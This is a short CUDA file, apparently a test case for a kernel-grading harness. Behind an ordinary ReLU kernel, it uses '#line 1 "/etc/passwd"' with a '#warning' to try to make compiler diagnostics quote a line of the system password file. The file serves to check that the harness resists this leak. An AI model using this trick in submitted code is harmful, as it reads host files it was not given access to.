// relu_fp32 | build_failed/correct | compiler's box | Has the compiler quote a line of another file below a warning.
#line 1 "/etc/passwd"
#warning look
#line 4 "candidate.cu"
__global__ void relu(const float* x, float* y, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = fmaxf(x[i], 0.0f);
}
extern "C" void solve(const float* x, float* y, int n) {
    relu<<<(n + 255) / 256, 256>>>(x, y, n);
}
